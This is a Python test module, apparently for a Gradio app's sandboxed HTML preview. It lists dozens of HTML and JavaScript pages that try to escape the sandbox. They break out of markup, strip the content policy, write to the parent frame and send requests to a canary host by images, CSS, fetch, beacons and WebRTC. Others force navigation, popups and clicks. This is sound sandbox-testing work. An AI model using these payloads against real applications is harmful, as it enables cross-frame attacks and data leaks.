"""Pages that try to get out of the preview, one for each way, named by intent.

`{hit}` stands for an address of a canary that tells on the payload, `{tcp}` and `{udp}` for host:port of a bare canary
of its own, `{name}` for its name. `click` is what a user is talked into clicking.
"""

# ruff: noqa: E501 - a page stands in one piece

from typing import NamedTuple


class Payload(NamedTuple):
    name: str
    page: str
    click: str = ""


def script(code: str) -> str:
    return f"<!doctype html><title>x</title><p>x</p><script>{code}</script>"


MARK_PARENT = "parent.document.body.dataset.hit = '{name}'"
SCRIPT_URL = "'{hit}'.replace('/hit/', '/script/')"

BREAKOUT = {
    "closing the srcdoc attribute": """"'><img src="{hit}"><p>x</p>""",
    "closing the frame": """</iframe></iframe><img src="{hit}"><p>x</p>""",
    "closing every element that swallows text": (
        """--></title></style></script></textarea></noscript></template></xmp><img src="{hit}"><p>x</p>"""
    ),
    "closing the editor's markup": """</pre></div></code></textarea><img src="{hit}"><p>x</p>""",
    "an image whose error handler calls out": """<p>x</p><img src="data:,x" onerror="fetch('{hit}')">""",
    "a NUL before the tag": """\ufffd<img src="{hit}"><p>x</p>""",
    "markup in the title": """<!doctype html><title>&lt;img src={hit}></title><p>x</p><img src="{hit}">""",
    "a frameset instead of a body": """<!doctype html><frameset><frame src="{hit}"></frameset>""",
}

TAMPERING = {
    "removing the policy": script(
        "document.querySelectorAll('meta').forEach((meta) => meta.remove()); new Image().src = '{hit}'"
    ),
    "a laxer policy of its own": (
        """<meta http-equiv="Content-Security-Policy" content="default-src *; img-src *"><p>x</p><img src="{hit}">"""
    ),
    "a second doctype and head": """<!doctype html><html><head><title>x</title></head><img src="{hit}"><p>x</p></html>""",
    "rewriting the document": script(
        """document.open(); document.write('<p>x</p><img src="{hit}">'); document.close()"""
    ),
    "a script in a rewritten document": script("document.open(); document.write('<script>fetch(`{hit}`)<\\/script>')"),
    "fetch of an empty child frame": script(
        "const f = document.body.appendChild(document.createElement('iframe')); f.contentWindow.fetch('{hit}')"
    ),
    "a child frame with a document of its own": """<p>x</p><iframe srcdoc="<img src='{hit}'>"></iframe>""",
    "a child frame from a data address": """<p>x</p><iframe src="data:text/html,<img src='{hit}'>"></iframe>""",
    "a child frame from a blob": script(
        "const f = document.body.appendChild(document.createElement('iframe'));"
        "f.src = URL.createObjectURL(new Blob([`<img src='{hit}'>`], {type: 'text/html'}))"
    ),
    "going to a blob of its own": script(
        "location = URL.createObjectURL(new Blob([`<img src='{hit}'>`], {type: 'text/html'}))"
    ),
    "a child frame from a javascript address": """<p>x</p><iframe src="javascript:fetch('{hit}')"></iframe>""",
    "going to a javascript address": script("location = `javascript:'<img src={hit}>'`"),
    "taking off its sandbox": script("frameElement.removeAttribute('sandbox'); " + MARK_PARENT),
    "a base address": """<base href="{hit}/"><p>x</p><img src="x.png">""",
    "a string timer": script("setTimeout(`fetch('{hit}')`, 0)"),
}

PARENT = {
    "writing to the parent's document": script(MARK_PARENT),
    "writing to the top document": script("top.document.body.dataset.hit = '{name}'"),
    "evaluating in the parent": script("""parent.eval("document.body.dataset.hit = '{name}'")"""),
    "reading the parent's document": script("if (parent.document.body.innerHTML) new Image().src = '{hit}'"),
    "reaching the parent through its frame element": script("frameElement.ownerDocument.body.dataset.hit = '{name}'"),
    "a message to the app's own listeners": script("parent.postMessage({hit: '{name}'}, '*')"),
    "a message to the top window": script("top.postMessage({hit: '{name}'}, '*')"),
    # Gradio loads iframeResizer, for those who embed an app: it lets whoever speaks to it first restyle the window.
    "orders to the app's frame resizer": script(
        "setInterval(() => parent.postMessage('[iFrameSizer]{name}:0:false:false:32:true:true:9px:max:red:9px', '*'), 100)"
    ),
    "a broadcast to the app's origin": script("new BroadcastChannel('hit').postMessage('{name}')"),
    "a cookie for the app's origin": script("document.cookie = 'hit={name}'"),
    "local storage of the app's origin": script("localStorage.setItem('hit', '{name}')"),
    "session storage of the app's origin": script("sessionStorage.setItem('hit', '{name}')"),
    "a database of the app's origin": script("indexedDB.open('{name}')"),
    "a cache of the app's origin": script("caches.open('{name}')"),
    "a file system of the app's origin": script(
        "navigator.storage.getDirectory().then((root) => root.getFileHandle('hit', {create: true}))"
        ".then(() => { new Image().src = '{hit}' })"
    ),
}

EXFILTRATION = {
    "an image": """<p>x</p><img src="{hit}">""",
    "an image for other screens": """<p>x</p><img srcset="{hit} 1x, {hit} 2x">""",
    "a picture's source": """<p>x</p><picture><source srcset="{hit}"><img alt=""></picture>""",
    "an image made by a script": script("new Image().src = '{hit}'"),
    "an image button": """<p>x</p><input type="image" src="{hit}" alt="">""",
    "the body's background": """<body background="{hit}"><p>x</p>""",
    "a CSS background": """<style>p { background: url("{hit}") }</style><p>x</p>""",
    "a CSS image set": """<style>p { background: image-set("{hit}" 1x) }</style><p>x</p>""",
    "a CSS cursor": """<style>p { cursor: url("{hit}"), auto }</style><p>x</p>""",
    "a CSS mask": """<style>p { mask: url("{hit}#m") }</style><p>x</p>""",
    "a CSS filter": """<style>p { filter: url("{hit}#f") }</style><p>x</p>""",
    "a CSS list marker": """<style>li { list-style-image: url("{hit}") }</style><ul><li>x</ul>""",
    "a CSS import": """<style>@import "{hit}";</style><p>x</p>""",
    "a field's value, by CSS": """<style>input[value^="s"] { background: url("{hit}") }</style><p>x</p><input value="secret">""",
    "a style attribute": """<p style="background: url('{hit}')">x</p>""",
    "a style sheet": """<link rel="stylesheet" href="{hit}"><p>x</p>""",
    "a style sheet for print": """<link rel="stylesheet" media="print" href="{hit}"><p>x</p>""",
    "a font": """<style>@font-face { font-family: f; src: url("{hit}") } p { font-family: f }</style><p>x</p>""",
    "a font made by a script": script("new FontFace('f', 'url({hit})').load()"),
    "an SVG image": """<p>x</p><svg><image href="{hit}" width="9" height="9"/></svg>""",
    "an SVG symbol": """<p>x</p><svg><use href="{hit}#s"/></svg>""",
    "an SVG filter image": """<p>x</p><svg><filter id="f"><feImage href="{hit}"/></filter><rect width="9" height="9" filter="url(#f)"/></svg>""",
    "an SVG script": """<p>x</p><svg><script href="{hit}"></script></svg>""",
    "a script": """<p>x</p><script src="{hit}"></script>""",
    "a module": """<p>x</p><script type="module">import "{hit}"</script>""",
    "a dynamic import": script("import('{hit}')"),
    "fetch": script("fetch('{hit}', {mode: 'no-cors'})"),
    "fetch that outlives the page": script(
        "fetch('{hit}', {mode: 'no-cors', keepalive: true, method: 'POST', body: 'x'})"
    ),
    "fetch put off until later": script("fetchLater('{hit}', {activateAfter: 0})"),
    "XMLHttpRequest": script("const x = new XMLHttpRequest(); x.open('GET', '{hit}'); x.send()"),
    "a beacon": script("navigator.sendBeacon('{hit}', 'x')"),
    "a web socket": script("new WebSocket('{hit}'.replace('http', 'ws'))"),
    "an event source": script("new EventSource('{hit}')"),
    "prefetch": """<link rel="prefetch" href="{hit}"><p>x</p>""",
    "preload": """<link rel="preload" as="image" href="{hit}"><p>x</p>""",
    "module preload": """<link rel="modulepreload" href="{hit}"><p>x</p>""",
    "an embedded object": """<p>x</p><object data="{hit}"></object>""",
    "an embed": """<p>x</p><embed src="{hit}">""",
    "a child frame": """<p>x</p><iframe src="{hit}"></iframe>""",
    "audio": """<p>x</p><audio src="{hit}" preload="auto"></audio>""",
    "video": """<p>x</p><video src="{hit}" preload="auto"></video>""",
    "a video's poster": """<p>x</p><video poster="{hit}"></video>""",
    "a video's captions": (
        """<p>x</p><video crossorigin><track default kind="captions" src="{hit}"></video>"""
        "<script>document.querySelector('track').track.mode = 'showing'</script>"
    ),
    "a worker": script(f"new Worker({SCRIPT_URL})"),
    "a worker from a blob": script("new Worker(URL.createObjectURL(new Blob([`fetch('{hit}', {mode: 'no-cors'})`])))"),
    "a shared worker": script(f"new SharedWorker({SCRIPT_URL})"),
    "a service worker": script(f"navigator.serviceWorker.register({SCRIPT_URL}, {{scope: '/script/'}})"),
    "a worklet": script(f"CSS.paintWorklet.addModule({SCRIPT_URL})"),
    "WebRTC, asking a STUN server": script(
        "const p = new RTCPeerConnection({iceServers: [{urls: 'stun:{udp}'}]}); p.createDataChannel('x');"
        "p.createOffer().then((offer) => p.setLocalDescription(offer))"
    ),
    "WebRTC, relayed over TCP": script(
        "const p = new RTCPeerConnection({iceServers: [{urls: 'turn:{tcp}?transport=tcp', username: 'u', credential: 'c'}],"
        "iceTransportPolicy: 'relay'}); p.createDataChannel('x');"
        "p.createOffer().then((offer) => p.setLocalDescription(offer))"
    ),
    "WebRTC from an empty child frame": script(
        "const w = document.body.appendChild(document.createElement('iframe')).contentWindow;"
        "const p = new w.RTCPeerConnection({iceServers: [{urls: 'stun:{udp}'}]}); p.createDataChannel('x');"
        "p.createOffer().then((offer) => p.setLocalDescription(offer))"
    ),
    "WebRTC from a child frame with a document of its own": (
        """<!doctype html><p>x</p><iframe srcdoc="<script>const p = new RTCPeerConnection({iceServers: [{urls: 'stun:{udp}'}]});"""
        """p.createDataChannel('x'); p.createOffer().then((offer) => p.setLocalDescription(offer))</script>"></iframe>"""
    ),
    "WebTransport": script("new WebTransport('https://{udp}/')"),
}

NAVIGATION = {
    "the top window": script("top.location = '{hit}'"),
    "the parent window": script("parent.location = '{hit}'"),
    "itself": script("location = '{hit}'"),
    "itself, without a trace": script("location.replace('{hit}')"),
    "itself, by a refresh": """<meta http-equiv="refresh" content="0; url={hit}"><p>x</p>""",
    "itself, by a refresh made by a script": script(
        """document.head.insertAdjacentHTML('beforeend', '<meta http-equiv="refresh" content="0; url={hit}">')"""
    ),
    "itself, by the navigation interface": script("navigation.navigate('{hit}')"),
    "a link, clicked by a script": script(
        "const a = document.body.appendChild(document.createElement('a')); a.href = '{hit}'; a.click()"
    ),
    "a link, clicked once all listeners are gone": script(
        "document.open(); document.write(`<a href='{hit}'>x</a>`); document.querySelector('a').click()"
    ),
    "a named window": script("open('{hit}', 'elsewhere')"),
    "a form, sent by a script": script(
        "document.body.innerHTML = `<form action='{hit}' method='post'><input name='a'></form>`; document.forms[0].submit()"
    ),
    "a form, sent to the top window": script(
        "document.body.innerHTML = `<form action='{hit}' target='_top'><input name='a'></form>`; document.forms[0].submit()"
    ),
    "a form, sent by a click of a script": script(
        "document.body.innerHTML = `<form action='{hit}'><button>x</button></form>`; document.querySelector('button').click()"
    ),
    "back, in the app's history": script("history.back()"),
}

POPUPS_AND_DOWNLOADS = {
    "a popup": script("open('{hit}')"),
    "an empty popup": script("const w = open(); w.document.body.append('x'); w.fetch('{hit}')"),
    "a download of a data address": script(
        "const a = document.createElement('a'); a.href = 'data:,x'; a.download = 'x.txt'; a.click()"
    ),
    "a download of a blob": script(
        "const a = document.createElement('a'); a.href = URL.createObjectURL(new Blob(['x'])); a.download = 'x'; a.click()"
    ),
    "a download by a frame": script(
        "document.body.insertAdjacentHTML('beforeend', `<iframe src='${'{hit}'.replace('/hit/', '/download/')}'></iframe>`)"
    ),
    "an alert": script("alert('x')"),
    "a confirmation": script("confirm('x')"),
    "a question": script("prompt('x')"),
    "an alert from an empty child frame": script(
        "document.body.appendChild(document.createElement('iframe')).contentWindow.alert('x')"
    ),
}

# What a user is talked into clicking; the click is real.
CLICKS = {
    "a link": ("""<a href="{hit}">x</a>""", "a"),
    "a link to the top window": ("""<a href="{hit}" target="_top">x</a>""", "a"),
    "a link to the parent window": ("""<a href="{hit}" target="_parent">x</a>""", "a"),
    "a link to a new window": ("""<a href="{hit}" target="_blank">x</a>""", "a"),
    "a link whose target the base names": ("""<base target="_top"><a href="{hit}">x</a>""", "a"),
    "a link that pings": ("""<a href="#x" ping="{hit}">x</a>""", "a"),
    "a link in an SVG": ("""<svg><a href="{hit}"><rect width="50" height="50"/></a></svg>""", "rect"),
    "an area of an image map": (
        """<img usemap="#m" width="50" height="50" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" alt="">"""
        """<map name="m"><area href="{hit}" coords="0,0,50,50" alt="x"></map>""",
        "img",
    ),
    "a link once all listeners are gone": (
        script("document.open(); document.write(`<a href='{hit}' target='_top'>x</a>`)"),
        "a",
    ),
    "a form": ("""<form action="{hit}"><input name="a"><button>x</button></form>""", "button"),
    "a form to a new window": ("""<form action="{hit}" target="_blank"><button>x</button></form>""", "button"),
    "a button with an action of its own": ("""<form><button formaction="{hit}">x</button></form>""", "button"),
    "a popup on a click": ("""<button onclick="window.open('{hit}')">x</button>""", "button"),
    "the top window on a click": ("""<button onclick="top.location = '{hit}'">x</button>""", "button"),
    "the whole screen on a click": (
        """<button onclick="document.documentElement.requestFullscreen()">x</button>""",
        "button",
    ),
    "a download link": ("""<a href="data:,x" download="x.txt">x</a>""", "a"),
}

GROUPS = {
    "breakout": BREAKOUT,
    "tampering": TAMPERING,
    "parent": PARENT,
    "exfiltration": EXFILTRATION,
    "navigation": NAVIGATION,
    "popup": POPUPS_AND_DOWNLOADS,
}


def _slug(group: str, intent: str) -> str:
    return "-".join(f"{group} {intent}".lower().replace(",", "").replace("'", "").split())


PAYLOADS = [Payload(_slug(group, intent), page) for group, pages in GROUPS.items() for intent, page in pages.items()]
PAYLOADS += [Payload(_slug("click", intent), page, click) for intent, (page, click) in CLICKS.items()]
